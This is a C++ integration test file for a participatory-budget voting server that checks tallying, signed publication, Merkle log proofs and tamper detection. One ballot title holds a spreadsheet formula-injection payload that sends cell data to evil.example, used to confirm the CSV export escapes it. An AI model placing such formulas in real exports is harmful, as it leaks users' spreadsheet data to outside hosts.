// Integration: cast ballots, close, tally, publish, and check everything that is published.
#include "server/api/results_api.hpp"

#include <sodium.h>

#include <boost/json.hpp>
#include <catch2/catch.hpp>
#include <cstring>
#include <fstream>
#include <set>
#include <sstream>

#include "server/core/crypto.hpp"
#include "server/storage/keys.hpp"
#include "tests/server/support/campaign_fixture.hpp"
#include "voting/ballot.hpp"
#include "voting/canonical_json.hpp"
#include "voting/merkle.hpp"
#include "voting/pabulib.hpp"
#include "voting/results.hpp"

using namespace budget::test;
using namespace std::chrono_literals;
namespace json = boost::json;
namespace keys = budget::server::storage::keys;

namespace {

// A key as one shell word for redis-cli (keys hold braces and colons, never a quote).
std::string quoted(const std::string& key) { return "'" + key + "'"; }

std::string error_code(const HttpResult& r) {
    return std::string(json::parse(r.body).at("error").at("code").as_string());
}

// A campaign in its vote, with a small envelope and a tree head every second.
EngineConfig voting(int ballot_shards = 0) {
    return {.ballot_shards = ballot_shards,
            .window = VoteWindow::relative(-3600, 3600),
            .envelope_eur = 10000,
            .tree_head_interval_s = 1};
}

// Initiatives of the sealed ballot, by id and amount.
CampaignLaunch sealed(const std::vector<std::pair<std::string, int>>& initiatives) {
    CampaignLaunch launch;
    for (const auto& [id, amount] : initiatives)
        launch.ballot.push_back({id, amount, "cooperation"});
    return launch;
}

// The campaign's key as `budgetctl keys show` announces it: (base64 key, hex fingerprint).
std::pair<std::string, std::string> announced_key(const std::string& dir) {
    const auto shown = run_command(BUDGETCTL_PATH " --config " + dir + "/budget.toml keys show");
    REQUIRE(shown.first == 0);
    auto after = [&](const std::string& label) {
        const auto at = shown.second.find(label);
        REQUIRE(at != std::string::npos);
        const auto begin = at + label.size();
        return shown.second.substr(begin, shown.second.find('\n', begin) - begin);
    };
    return {after("public key: "), after("fingerprint (sha256): ")};
}

// The same campaign restarted after its close.
VoteWindow closed() { return VoteWindow::relative(-7200, -10); }

// A resident of Calais named `who`, born on a day of January 1980 that depends on the name: a
// person's ballot shard comes from their birth date (issue 15), so that residents spread over
// the shards.
Resident resident(const std::string& who) {
    unsigned sum = 0;
    for (const char ch : who) sum = sum * 31 + static_cast<unsigned char>(ch);
    const auto day = std::to_string(1 + sum % 28);
    return {who + "@example.org", who, "Votant", "1980-01-" + (day.size() == 1 ? "0" + day : day),
            "62193"};
}

}  // namespace

TEST_CASE("a closed campaign is tallied, signed, published and verifiable by anyone",
          "[integration][results]") {
    auto launch = sealed({{"a", 6000}, {"b", 5000}, {"c", 3000}});
    // A title a spreadsheet would run as a formula (issue 14, item 9).
    launch.ballot[1].title = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"clic\")";
    TestCampaign c(voting(), launch);
    std::map<std::string, std::string> receipts;
    receipts["ana"] = c.vote(resident("ana"), {"a", "b"});
    receipts["bob"] = c.vote(resident("bob"), {"a"});
    receipts["cyd"] = c.vote(resident("cyd"), {"b", "c"});
    receipts["dan"] = c.vote(resident("dan"), {"a", "c"});
    const auto mission = c.staff_login("mission").headers();

    SECTION("nothing is counted or published while the vote is open") {
        const auto early =
            http_request(c.port(), "POST", "/api/v1/admin/tally", R"({"rule":"greedy"})", mission);
        CHECK(early.status == 409);
        CHECK(error_code(early) == "vote_not_closed");
        CHECK(http_request(c.port(), "GET", "/api/v1/results").status == 404);
        CHECK(http_request(c.port(), "GET", "/api/v1/ballots/export").status == 404);
        const auto stats = http_request(c.port(), "GET", "/api/v1/admin/stats", "", mission);
        REQUIRE(stats.status == 200);
        const auto s = json::parse(stats.body);
        CHECK(s.at("total").to_number<int>() == 4);
        CHECK(s.at("by_territory").at("calaisis").to_number<int>() == 4);
        // Participation only: the answer names no initiative.
        CHECK(stats.body.find("\"a\"") == std::string::npos);
        CHECK(http_request(c.port(), "GET", "/metrics").body.find("initiative") ==
              std::string::npos);
    }

    SECTION("after the close") {
        c.restart(closed());
        const int port = c.port();
        const auto mission2 = c.staff_login("mission").headers();
        CHECK(http_request(port, "POST", "/api/v1/admin/tally", R"({"rule":"greedy"})").status ==
              401);
        CHECK(http_request(port, "POST", "/api/v1/admin/tally", R"({"rule":"greedy"})",
                           {{"Cookie", mission2.at("Cookie")}})
                  .status == 403);  // no CSRF token
        const auto committee = c.staff_login("committee").headers();
        CHECK(http_request(port, "POST", "/api/v1/admin/tally", R"({"rule":"greedy"})", committee)
                  .status == 403);
        CHECK(http_request(port, "POST", "/api/v1/admin/tally", R"({"rule":"dice"})", mission2)
                  .status == 422);
        CHECK(http_request(port, "POST", "/api/v1/admin/publish", "", mission2).status ==
              409);  // no tally yet

        const auto draft =
            http_request(port, "POST", "/api/v1/admin/tally", R"({"rule":"greedy"})", mission2);
        REQUIRE(draft.status == 200);
        CHECK(http_request(port, "GET", "/api/v1/results").status == 404);  // not yet public
        REQUIRE(http_request(port, "POST", "/api/v1/admin/publish", "", mission2).status == 200);
        CHECK(http_request(port, "POST", "/api/v1/admin/publish", "", mission2).status == 409);
        CHECK(http_request(port, "POST", "/api/v1/admin/tally", R"({"rule":"mes"})", mission2)
                  .status == 409);

        const auto results = http_request(port, "GET", "/api/v1/results");
        REQUIRE(results.status == 200);
        const auto exported = http_request(port, "GET", "/api/v1/ballots/export");
        REQUIRE(exported.status == 200);
        const auto r = json::parse(results.body);
        const auto& doc = r.at("document");
        CHECK(doc.at("ballots_counted").to_number<int>() == 4);
        CHECK(doc.at("votes").at("a").to_number<int>() == 3);
        CHECK(doc.at("votes").at("b").to_number<int>() == 2);
        CHECK(doc.at("votes").at("c").to_number<int>() == 2);
        CHECK(doc.at("rule").as_string() == "greedy");
        CHECK(doc.at("total_allocated_eur").to_number<int>() ==
              9000);  // a (6000), then c fits, b does not
        const auto verified = budget::voting::verify_results(r, json::parse(exported.body),
                                                             {announced_key(c.dir()).first, ""});
        REQUIRE(verified.has_value());
        CHECK(verified->winners == std::vector<std::string>{"a", "c"});

        // Every receipt proves its ballot is in the published tree.
        const auto root = *budget::voting::hash_from_hex(std::string(doc.at("root").as_string()));
        for (const auto& [who, id] : receipts) {
            const auto proof = http_request(port, "GET", "/api/v1/receipts/" + id);
            REQUIRE(proof.status == 200);
            const auto p = json::parse(proof.body);
            std::vector<budget::voting::Hash> path;
            for (const auto& h : p.at("audit_path").as_array())
                path.push_back(*budget::voting::hash_from_hex(std::string(h.as_string())));
            const auto leaf =
                *budget::voting::hash_from_hex(std::string(p.at("leaf_hash").as_string()));
            CHECK(budget::voting::verify_inclusion(
                leaf, p.at("leaf_index").to_number<std::uint64_t>(),
                p.at("tree_size").to_number<std::uint64_t>(), path, root));
        }
        const auto csv = http_request(port, "GET", "/api/v1/results.csv");
        REQUIRE(csv.status == 200);
        CHECK(csv.body.rfind("\xEF\xBB\xBF"
                             "identifiant;titre;",
                             0) == 0);
        CHECK(csv.body.find("a;Initiative a;arrageois;cooperation;6000;3;oui;1;") !=
              std::string::npos);
        CHECK(csv.body.find(
                  "\r\nb;\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"clic\"\")\";") !=
              std::string::npos);
        CHECK(json::parse(http_request(port, "GET", "/api/v1/campaign").body)
                  .at("phase")
                  .as_string() == "published");

        // What anyone can download verifies with budgetctl, and any change is named.
        const auto dir = c.dir();
        std::ofstream(dir + "/results.json") << results.body;
        std::ofstream(dir + "/ballots.json") << exported.body;
        const auto [key, fingerprint] = announced_key(dir);
        const auto keyless = run_command(BUDGETCTL_PATH " verify " + dir +
                                         "/results.json --ballots " + dir + "/ballots.json");
        CHECK(keyless.first == 2);
        CHECK(keyless.second.find("--public-key BASE64 or --fingerprint HEX") != std::string::npos);
        const std::string verify =
            BUDGETCTL_PATH " verify " + dir + "/results.json --public-key " + key + " --ballots ";
        const auto good = run_command(verify + dir + "/ballots.json");
        CHECK(good.first == 0);
        CHECK(good.second.find("verify: OK") != std::string::npos);
        const auto by_fingerprint =
            run_command(BUDGETCTL_PATH " verify " + dir + "/results.json --fingerprint " +
                        fingerprint + " --ballots " + dir + "/ballots.json");
        CHECK(by_fingerprint.first == 0);

        // Each field of the export's header, changed alone, is named (issue 14, item 8).
        const auto header_tampered = [&](const char* field, json::value value) {
            auto changed = json::parse(exported.body);
            changed.as_object()[field] = std::move(value);
            const auto file = dir + "/header-" + field + ".json";
            std::ofstream(file) << json::serialize(changed);
            return run_command(verify + file);
        };
        const auto size = json::parse(exported.body).at("tree_size").to_number<int>();
        const auto bigger = header_tampered("tree_size", size + 1);
        CHECK(bigger.first == 1);
        CHECK(bigger.second.find("export: tree_size") != std::string::npos);
        auto other_hex = std::string(json::parse(exported.body).at("root").as_string());
        other_hex[5] = other_hex[5] == 'f' ? 'e' : 'f';
        const auto other_root = header_tampered("root", json::value(other_hex));
        CHECK(other_root.first == 1);
        CHECK(other_root.second.find("export: root") != std::string::npos);
        const auto extra = header_tampered("campaign", json::value("t"));
        CHECK(extra.first == 1);
        CHECK(extra.second.find("export: unexpected field campaign") != std::string::npos);

        // The whole election re-signed with another key, fingerprint included: only the announced
        // key gives it away.
        {
            unsigned char pk2[crypto_sign_PUBLICKEYBYTES], sk2[crypto_sign_SECRETKEYBYTES];
            crypto_sign_keypair(pk2, sk2);
            auto document = json::parse(results.body).at("document").as_object();
            document["public_key_fingerprint"] =
                budget::server::crypto::sha256_hex(std::string(reinterpret_cast<char*>(pk2), 32));
            const auto text = *budget::voting::canonical_json(document);
            unsigned char sig[crypto_sign_BYTES];
            crypto_sign_detached(sig, nullptr, reinterpret_cast<const unsigned char*>(text.data()),
                                 text.size(), sk2);
            auto b64 = [](const unsigned char* data, std::size_t n) {
                std::string out(sodium_base64_ENCODED_LEN(n, sodium_base64_VARIANT_ORIGINAL), '\0');
                sodium_bin2base64(out.data(), out.size(), data, n, sodium_base64_VARIANT_ORIGINAL);
                out.resize(std::strlen(out.c_str()));
                return out;
            };
            std::ofstream(dir + "/forged.json")
                << json::serialize(json::object{{"document", document},
                                                {"signature", b64(sig, sizeof sig)},
                                                {"public_key", b64(pk2, 32)}});
            for (const auto& expected : {"--public-key " + key, "--fingerprint " + fingerprint}) {
                const auto forged =
                    run_command(BUDGETCTL_PATH " verify " + dir + "/forged.json --ballots " + dir +
                                "/ballots.json " + expected);
                CHECK(forged.first == 1);
                CHECK(forged.second.find("public_key: the results are signed with another key") !=
                      std::string::npos);
            }
        }

        auto tampered = results.body;
        tampered.replace(tampered.find("\"total_allocated_eur\":9000"), 26,
                         "\"total_allocated_eur\":9900");
        std::ofstream(dir + "/tampered.json") << tampered;
        const auto flipped =
            run_command(BUDGETCTL_PATH " verify " + dir + "/tampered.json --ballots " + dir +
                        "/ballots.json --public-key " + key);
        CHECK(flipped.first == 1);
        CHECK(flipped.second.find("signature:") != std::string::npos);

        auto fewer = json::parse(exported.body);
        fewer.at("ballots").as_array().pop_back();
        std::ofstream(dir + "/fewer.json") << json::serialize(fewer);
        const auto dropped = run_command(verify + dir + "/fewer.json");
        CHECK(dropped.first == 1);
        CHECK(dropped.second.find("root:") != std::string::npos);

        const auto other_key =
            run_command(BUDGETCTL_PATH " verify " + dir + "/results.json --ballots " + dir +
                        "/ballots.json --public-key " + std::string(44 - 1, 'A') + "=");
        CHECK(other_key.first == 1);
        CHECK(other_key.second.find("another key") != std::string::npos);

        const auto pb = run_command(BUDGETCTL_PATH " --config " + dir +
                                    "/budget.toml pabulib export " + dir + "/t.pb");
        REQUIRE(pb.first == 0);
        std::ifstream pb_file(dir + "/t.pb", std::ios::binary);
        const auto instance = budget::voting::read_pabulib(pb_file);
        REQUIRE(instance.has_value());
        CHECK(instance->ballots.size() == 4);
        CHECK(instance->budget == 10000);
    }
}

TEST_CASE("budgetctl tallies a closed campaign like the API and writes the files to publish",
          "[integration][results]") {
    TestCampaign c(voting(), sealed({{"a", 6000}, {"b", 5000}}));
    c.vote(resident("hal"), {"a"});
    c.vote(resident("ivy"), {"a", "b"});
    const auto early =
        run_command(BUDGETCTL_PATH " --config " + c.dir() + "/budget.toml tally --rule greedy");
    CHECK(early.first == 1);
    CHECK(early.second.find("not closed") != std::string::npos);
    c.restart(closed());
    const auto out = c.dir() + "/out";
    const auto tallied = run_command(BUDGETCTL_PATH " --config " + c.dir() +
                                     "/budget.toml tally --rule mes-completed --out " + out);
    INFO(tallied.second);
    REQUIRE(tallied.first == 0);
    CHECK(tallied.second.find("tallied 2 ballots") != std::string::npos);
    const auto verified =
        run_command(BUDGETCTL_PATH " verify " + out + "/results.json --ballots " + out +
                    "/ballots.json --fingerprint " + announced_key(c.dir()).second);
    CHECK(verified.first == 0);
    // The draft is the one the API publishes.
    const auto mission = c.staff_login("mission").headers();
    REQUIRE(http_request(c.port(), "POST", "/api/v1/admin/publish", "", mission).status == 200);
    const auto published = json::parse(http_request(c.port(), "GET", "/api/v1/results").body);
    std::ifstream file(out + "/results.json");
    std::stringstream text;
    text << file.rdbuf();
    CHECK(published == json::parse(text.str()));
}

namespace {
json::value wait_for_head(int port, std::uint64_t size) {
    json::value head;
    const bool seen = eventually(
        [&] {
            const auto r = http_request(port, "GET", "/api/v1/log/head");
            if (r.status != 200) return false;
            head = json::parse(r.body);
            return head.at("head").at("tree_size").to_number<std::uint64_t>() == size;
        },
        5s);
    REQUIRE(seen);
    return head;
}

budget::voting::Hash hash_of(const json::value& v) {
    return *budget::voting::hash_from_hex(std::string(v.as_string()));
}

std::vector<budget::voting::Hash> hashes_of(const json::value& v) {
    std::vector<budget::voting::Hash> out;
    for (const auto& h : v.as_array()) out.push_back(hash_of(h));
    return out;
}
}  // namespace

TEST_CASE("during the vote signed tree heads show the log only grows, and include each ballot",
          "[integration][results][log]") {
    TestCampaign c(voting(), sealed({{"a", 6000}, {"b", 5000}}));
    const int port = c.port();
    CHECK(http_request(port, "GET", "/api/v1/log/head").status == 404);
    const auto first = c.vote(resident("eve"), {"a"});
    c.vote(resident("fay"), {"b"});
    const auto head2 = wait_for_head(port, 2);

    // The head is signed with the campaign key over its canonical bytes.
    const auto text = *budget::voting::canonical_json(head2.at("head"));
    std::vector<unsigned char> sig(64), pk(32);
    std::size_t len = 0;
    REQUIRE(sodium_base642bin(sig.data(), sig.size(), head2.at("signature").as_string().data(),
                              head2.at("signature").as_string().size(), nullptr, &len, nullptr,
                              sodium_base64_VARIANT_ORIGINAL) == 0);
    REQUIRE(sodium_base642bin(pk.data(), pk.size(), head2.at("public_key").as_string().data(),
                              head2.at("public_key").as_string().size(), nullptr, &len, nullptr,
                              sodium_base64_VARIANT_ORIGINAL) == 0);
    CHECK(crypto_sign_verify_detached(sig.data(),
                                      reinterpret_cast<const unsigned char*>(text.data()),
                                      text.size(), pk.data()) == 0);

    // A voter sees their ballot in the log before the close.
    const auto inc = json::parse(
        http_request(port, "GET", "/api/v1/log/inclusion?ballot_id=" + first + "&tree_size=2")
            .body);
    CHECK(budget::voting::verify_inclusion(
        hash_of(inc.at("leaf_hash")), inc.at("leaf_index").to_number<std::uint64_t>(), 2,
        hashes_of(inc.at("audit_path")), hash_of(head2.at("head").at("root"))));

    c.vote(resident("gus"), {"a", "b"});
    const auto head3 = wait_for_head(port, 3);
    const auto cons = http_request(port, "GET", "/api/v1/log/consistency?from=2&to=3");
    REQUIRE(cons.status == 200);
    CHECK(budget::voting::verify_consistency(2, 3, hash_of(head2.at("head").at("root")),
                                             hash_of(head3.at("head").at("root")),
                                             hashes_of(json::parse(cons.body).at("proof"))));
    CHECK(http_request(port, "GET", "/api/v1/log/consistency?from=3&to=2").status == 400);
    CHECK(http_request(port, "GET", "/api/v1/log/consistency?from=1&to=99").status == 404);
    CHECK(json::parse(http_request(port, "GET", "/api/v1/log/heads").body)
              .at("heads")
              .as_array()
              .size() >= 2);

    SECTION("the final tally checks every head") {
        c.restart(closed());
        const auto mission = c.staff_login("mission").headers();
        const auto draft =
            http_request(c.port(), "POST", "/api/v1/admin/tally", R"({"rule":"mes"})", mission);
        REQUIRE(draft.status == 200);
        CHECK(json::parse(draft.body).at("document").at("tree_heads_checked").to_number<int>() >=
              2);
    }
    SECTION("a rewritten log is refused at the tally") {
        c.redis().cli(
            "LSET " + quoted(keys::ballot_log("t", 0)) +
            " 0 '{\"ballot_id\":\"00000000000000000000000000000000\",\"choices\":[\"b\"]}'");
        c.restart(closed());
        const auto mission = c.staff_login("mission").headers();
        const auto refused =
            http_request(c.port(), "POST", "/api/v1/admin/tally", R"({"rule":"greedy"})", mission);
        CHECK(refused.status == 500);
        CHECK(error_code(refused) == "log_inconsistent");
    }
}

namespace {
bool head_signature_verifies(const json::value& signed_head, const json::value& public_key) {
    const auto text = *budget::voting::canonical_json(signed_head.at("head"));
    std::vector<unsigned char> sig(64), pk(32);
    std::size_t len = 0;
    const auto& s = signed_head.at("signature").as_string();
    const auto& k = public_key.as_string();
    if (sodium_base642bin(sig.data(), sig.size(), s.data(), s.size(), nullptr, &len, nullptr,
                          sodium_base64_VARIANT_ORIGINAL) != 0 ||
        sodium_base642bin(pk.data(), pk.size(), k.data(), k.size(), nullptr, &len, nullptr,
                          sodium_base64_VARIANT_ORIGINAL) != 0)
        return false;
    return crypto_sign_verify_detached(sig.data(),
                                       reinterpret_cast<const unsigned char*>(text.data()),
                                       text.size(), pk.data()) == 0;
}

std::uint64_t list_length(TestCampaign& c, const std::string& key) {
    return std::stoull(c.redis().cli("LLEN " + quoted(key)));
}

std::string heads_key(int shard) { return keys::tree_heads("t", shard); }
}  // namespace

TEST_CASE("with several ballot shards every shard's log has signed heads and inclusion proofs",
          "[integration][results][log]") {
    constexpr int kShards = 4;
    TestCampaign c(voting(kShards), sealed({{"a", 6000}, {"b", 5000}}));
    const int port = c.port();
    std::vector<std::string> ids;
    for (const char* who :
         {"ada", "ben", "cal", "dea", "eli", "fio", "gil", "hoa", "ines", "jon", "kim", "lou"}) {
        ids.push_back(c.vote(resident(who), {"a"}));
    }
    std::vector<std::uint64_t> sizes;
    sizes.reserve(kShards);
    for (int k = 0; k < kShards; ++k) sizes.push_back(list_length(c, keys::ballot_log("t", k)));

    // Each shard that holds ballots gets a head over its whole log, naming the shard in the
    // signed bytes; an empty shard has none.
    std::map<int, json::value> latest;
    for (int k = 0; k < kShards; ++k) {
        const auto target = "/api/v1/log/head?shard=" + std::to_string(k);
        if (sizes[k] == 0) {
            const auto none = http_request(port, "GET", target);
            CHECK(none.status == 404);
            CHECK(error_code(none) == "no_tree_head");
            continue;
        }
        json::value head;
        const bool seen = eventually(
            [&] {
                const auto r = http_request(port, "GET", target);
                if (r.status != 200) return false;
                head = json::parse(r.body);
                return head.at("head").at("tree_size").to_number<std::uint64_t>() == sizes[k];
            },
            5s);
        INFO("shard " << k);
        REQUIRE(seen);
        CHECK(head.at("shards").to_number<int>() == kShards);
        CHECK(head.at("head").at("shard").to_number<int>() == k);
        CHECK(budget::voting::canonical_json(head.at("head"))
                  ->find("\"shard\":" + std::to_string(k)) != std::string::npos);
        CHECK(head_signature_verifies(head, head.at("public_key")));
        auto forged = head;
        forged.at("head").as_object()["shard"] = (k + 1) % kShards;
        CHECK_FALSE(head_signature_verifies(forged, head.at("public_key")));
        latest[k] = head;
    }

    // All heads at once, each naming its shard, each signed.
    const auto all = http_request(port, "GET", "/api/v1/log/heads");
    REQUIRE(all.status == 200);
    const auto all_heads = json::parse(all.body);
    std::uint64_t stored_heads = 0;
    for (int k = 0; k < kShards; ++k) stored_heads += list_length(c, heads_key(k));
    CHECK(all_heads.at("heads").as_array().size() == stored_heads);
    CHECK(all_heads.at("shards").to_number<int>() == kShards);
    std::set<int> shards_in_heads;
    for (const auto& h : all_heads.at("heads").as_array()) {
        shards_in_heads.insert(h.at("head").at("shard").to_number<int>());
        CHECK(head_signature_verifies(h, all_heads.at("public_key")));
    }
    CHECK(shards_in_heads.size() == latest.size());
    const auto one = latest.begin()->first;
    const auto of_one = json::parse(
        http_request(port, "GET", "/api/v1/log/heads?shard=" + std::to_string(one)).body);
    CHECK(of_one.at("heads").as_array().size() == list_length(c, heads_key(one)));
    for (const auto& h : of_one.at("heads").as_array())
        CHECK(h.at("head").at("shard").to_number<int>() == one);

    // Every ballot, whatever its shard, is proven in its shard's latest signed head.
    std::set<int> proven_shards;
    for (const auto& id : ids) {
        const auto r = http_request(port, "GET", "/api/v1/log/inclusion?ballot_id=" + id);
        INFO(id << " " << r.body);
        REQUIRE(r.status == 200);
        const auto inc = json::parse(r.body);
        const int shard = inc.at("shard").to_number<int>();
        REQUIRE(latest.count(shard) == 1);
        const auto& head = latest.at(shard).at("head");
        CHECK(inc.at("tree_size") == head.at("tree_size"));
        if (budget::voting::verify_inclusion(
                hash_of(inc.at("leaf_hash")), inc.at("leaf_index").to_number<std::uint64_t>(),
                head.at("tree_size").to_number<std::uint64_t>(), hashes_of(inc.at("audit_path")),
                hash_of(head.at("root"))))
            proven_shards.insert(shard);
        const auto sized = http_request(
            port, "GET",
            "/api/v1/log/inclusion?ballot_id=" + id +
                "&tree_size=" + std::to_string(head.at("tree_size").to_number<std::uint64_t>()));
        REQUIRE(sized.status == 200);
        CHECK(json::parse(sized.body).at("audit_path") == inc.at("audit_path"));
    }
    CHECK(proven_shards.size() == latest.size());
    CHECK(proven_shards.size() >= 2);

    // Consistency proofs are asked for one shard's tree.
    for (const auto& [k, head] : latest) {
        const auto size = head.at("head").at("tree_size").to_number<std::uint64_t>();
        const auto r = http_request(port, "GET",
                                    "/api/v1/log/consistency?from=1&to=" + std::to_string(size) +
                                        "&shard=" + std::to_string(k));
        REQUIRE(r.status == 200);
        const auto cons = json::parse(r.body);
        CHECK(cons.at("root_to") == head.at("head").at("root"));
        CHECK(budget::voting::verify_consistency(1, size, hash_of(cons.at("root_from")),
                                                 hash_of(head.at("head").at("root")),
                                                 hashes_of(cons.at("proof"))));
    }

    for (const auto* target :
         {"/api/v1/log/head?shard=99", "/api/v1/log/head?shard=4", "/api/v1/log/head?shard=x",
          "/api/v1/log/heads?shard=99", "/api/v1/log/consistency?from=1&to=1&shard=99"}) {
        const auto bad = http_request(port, "GET", target);
        INFO(target);
        CHECK(bad.status == 400);
        CHECK(error_code(bad) == "invalid_shard");
        CHECK(std::string(json::parse(bad.body).at("error").at("message").as_string())
                  .find("entre 0 et 3") != std::string::npos);
    }

    SECTION("the tally checks every shard's heads") {
        c.restart(closed());
        const auto mission = c.staff_login("mission").headers();
        const auto draft =
            http_request(c.port(), "POST", "/api/v1/admin/tally", R"({"rule":"greedy"})", mission);
        INFO(draft.body);
        REQUIRE(draft.status == 200);
        const auto doc = json::parse(draft.body).at("document");
        CHECK(doc.at("ballots_counted").to_number<std::uint64_t>() == ids.size());
        CHECK(doc.at("tree_heads_checked").to_number<std::uint64_t>() == stored_heads);
        const auto tallied =
            run_command(BUDGETCTL_PATH " --config " + c.dir() +
                        "/budget.toml tally --rule greedy --out " + c.dir() + "/out");
        INFO(tallied.second);
        CHECK(tallied.first == 0);
        CHECK(tallied.second.find(
                  std::to_string(stored_heads) +
                  (stored_heads == 1 ? " tree head consistent" : " tree heads consistent")) !=
              std::string::npos);
    }
    SECTION("a head of one shard with a wrong root makes the tally refuse") {
        int tampered = -1;
        for (const auto& [k, head] : latest) {
            if (k > 0) {
                tampered = k;
                break;
            }
        }
        REQUIRE(tampered > 0);
        auto stored = json::parse(c.redis().cli("LINDEX " + quoted(heads_key(tampered)) + " 0"));
        stored.at("head").as_object()["root"] = std::string(64, '0');
        c.redis().cli("LSET " + quoted(heads_key(tampered)) + " 0 '" + json::serialize(stored) +
                      "'");
        c.restart(closed());
        const auto mission = c.staff_login("mission").headers();
        const auto refused =
            http_request(c.port(), "POST", "/api/v1/admin/tally", R"({"rule":"greedy"})", mission);
        CHECK(refused.status == 500);
        CHECK(error_code(refused) == "log_inconsistent");
        CHECK(refused.body.find("journal n° " + std::to_string(tampered)) != std::string::npos);
        const auto cli = run_command(BUDGETCTL_PATH " --config " + c.dir() +
                                     "/budget.toml tally --rule greedy --out " + c.dir() + "/out");
        CHECK(cli.first == 1);
        CHECK(cli.second.find("the log does not extend the tree head of size") !=
              std::string::npos);
        CHECK(cli.second.find("of shard " + std::to_string(tampered)) != std::string::npos);
    }
}
